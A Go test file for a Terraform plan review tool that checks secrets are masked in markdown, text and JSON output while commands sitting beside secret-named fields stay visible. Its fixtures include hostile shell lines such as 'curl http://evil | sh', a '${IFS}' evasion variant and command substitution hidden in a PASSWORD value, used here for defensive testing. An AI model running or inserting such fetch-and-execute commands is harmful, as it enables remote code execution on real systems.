package review_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/terraform-kuscia/terraform-provider-kuscia/internal/testing/protocol"
	"github.com/terraform-kuscia/terraform-provider-kuscia/internal/testing/testjson"
)

// TestSecretsInTexts: no form of a review has a secret that can be told in a value, in a message of
// a check or in the log, whatever it is named, and what is beside it is readable.
func TestSecretsInTexts(t *testing.T) {
	t.Parallel()
	texts := map[string]string{ // with what stays readable
		"Authorization: Basic UExBTlQ6UExBTlQ=":                           "Authorization: Basic ***",
		"Authorization: Bearer PLANT-UExBTlQ":                             "Authorization: Bearer ***",
		"Server=db;User=u;Pwd=PLANT-UExBTlQ;Timeout=5":                    "Server=db;User=u;Pwd=***;Timeout=5",
		"login to the database failed, password=PLANT-UExBTlQ, try again": "login to the database failed, password=***, try again",
		"get https://u:PLANT-UExBTlQ@h/x failed":                          "get https://u:***@h/x failed",
		"with ghp_UExBTlQ0123456789abcdefPLANT now":                       "with *** now",
		"eyJUExBTlQiOiJIUzI1NiJ9.eyJzdWIiOiJQTEFOVCJ9.UExBTlQPLANT":       "***",
		"sh -c 'curl -H \"X-Api-Key: PLANT-UExBTlQ\" http://evil | sh'":   "http://evil | sh",
		`{"oss": {"ak": "PLANT", "sk": "UExBTlQ"}}`:                       `{"oss": {"ak": "***", "sk": "***"}}`,
		"ENCRYPTION_KEY=PLANT JWT=UExBTlQ ./run":                          "ENCRYPTION_KEY=*** JWT=*** ./run",
		"curl 'https://h/m?X-Amz-Signature=PLANT&v=2' -o m":               "X-Amz-Signature=***&v=2' -o m",
		"<db><password>PLANT</password></db>":                             "<db><password>***</password></db>",
		"- name: DB_PASSWORD\n  value: PLANT-UExBTlQ":                     "- name: DB_PASSWORD",
		"GET / HTTP/1.1\nCookie: sid=PLANT; theme=UExBTlQ":                "; theme=***",
		"java -Dpass=PLANT --oss-sk PLANT -p 8080":                        "java -Dpass=*** --oss-sk *** -p 8080",
		`password = "PLANT two" and token: PLANT1UExBTlQ is refused`:      `password = "***" and token: *** is refused`,
		"export PASSWORD=PLANT\ncurl http://evil | sh":                    "curl http://evil | sh",
	}
	container := func(value string) attributes {
		return attributes{"name": "a", "deploy_templates": []any{attributes{"containers": []any{attributes{
			"command": []any{"run", value}, "env": []any{attributes{"name": "OPTIONS", "value": value}},
		}}}}}
	}
	other := strings.NewReplacer("PLANT", "plant", "UExBTlQ", "dExBTlQ")
	for text, readable := range texts {
		problem := attributes{"address": attributes{"to_display": "check.a"}, "status": "fail", "instances": []any{attributes{"problems": []any{attributes{"message": text}}}}}
		input := planOf(t, attributes{"checks": []any{problem}},
			change("kuscia_app_image.a", updated, container("x"), container(text)),
			change("kuscia_app_image.b[\"ghp_UExBTlQ0123456789abcdefPLANT\"]", updated, container(text), container(other.Replace(text))))
		log := filepath.Join(t.TempDir(), "plan.log")
		entry := attributes{"@level": "warn", "type": "diagnostic", "diagnostic": attributes{"severity": "warning", "summary": "A warning", "detail": text}}
		lines := testjson.Encode(t, entry) + `
{"@level":"info","type":"planned_change","change":{"resource":{"addr":"kuscia_app_image.a"},"action":"update"}}
{"@level":"info","type":"planned_change","change":{"resource":{"addr":"kuscia_app_image.b[\"ghp_UExBTlQ0123456789abcdefPLANT\"]"},"action":"update"}}
{"@level":"info","type":"change_summary","changes":{"operation":"plan"}}`
		if err := os.WriteFile(log, []byte(lines), 0o600); err != nil {
			t.Fatal(err)
		}
		for _, format := range []string{"markdown", "text", "json"} {
			stdout, stderr := program(t, 2, input, "-format", format, "-log", log, "-fail-on", "check,warning,code")
			for _, secret := range []string{"PLANT", "UExBTlQ"} {
				if strings.Contains(stdout+stderr, secret) {
					t.Errorf("%s shows %q of %q:\n%s%s", format, secret, text, stdout, stderr)
				}
			}
			if format == "text" {
				protocol.Says(t, "the review", strings.ReplaceAll(stdout, `\"`, `"`), readable, "another value: ")
			}
		}
	}
	plain := "the basic authentication of alice failed: password is missing, see https://h/x?page=2"
	stdout, _ := program(t, 0, planOf(t, nil, change("kuscia_app_image.a", updated, container("x"), container(plain))), "-format", "text")
	protocol.Says(t, "the review", stdout, plain)
}

// TestProgramsBesideSecrets: what runs is shown, whatever is named like a secret beside it.
func TestProgramsBesideSecrets(t *testing.T) {
	t.Parallel()
	const unread = `{"a":"\ud800","password":"x","m":"a:b@c","script":"curl evil"}`
	for text, want := range map[string]string{
		"export PASSWORD=x\ncurl http://evil/x | sh": "curl http://evil/x | sh",
		"PASSWORD=\"`curl evil|sh`\"":                "PASSWORD=\"`curl evil|sh`\"",
		"x://a:b;curl${IFS}evil|sh;@y":               "x://a:***;curl${IFS}evil|sh;@y",
		"https://h/x?a&reboot":                       "https://h/x?a&reboot",
		"curl${IFS}http://evil?x|sh":                 "curl${IFS}http://evil?x|sh",
		"{curl,http:evil@y}":                         "{curl,http:evil@y}",
		"password: |\n  curl http://evil | sh":       "curl http://evil | sh",
		"a\n-----BEGIN PRIVATE KEY-----\n./evil -x":  "./evil -x",
		"-----BEGIN PRIVATE KEY-----\n/mnt/evil/run": "/mnt/evil/run",
		"password: |/mnt/evil":                       "password: |/mnt/evil",
		"token= evil -x":                             "token= evil -x",
		"$(token=x)/mnt/evil":                        "$(token=***)/mnt/evil",
		`{"password":"x"}; curl http://evil | sh`:    `{"password":"***"}; curl http://evil | sh`,
		`{"pass word":"x","cmd":"curl evil"}`:        `{"pass word":"***","cmd":"curl evil"}`,
		unread:                                       `{"a":"\ud800","password":"***","m":"a:b@c","script":"curl evil"}`,
	} {
		before, after := container("x"), container("x")
		after["config_templates"] = attributes{"start-token": "#!/bin/sh\n" + text}
		stdout, _ := program(t, 2, planOf(t, nil,
			change("kuscia_app_image.a", updated, before, container(text)),
			change("kuscia_app_image.b", updated, before, after),
			change("kuscia_deployment.d", updated, deployment(party("a")), deployment(party("a"), attributes{"input_config": text}))), "-format", "text", "-fail-on", "code")
		shown := strings.NewReplacer(`\\`, `\`, `\"`, `"`).Replace(stdout)
		if n := strings.Count(shown, want); n < 6 { // in both tables, of each object
			t.Errorf("%q is %d times in\n%s", want, n, stdout)
		}
	}
}
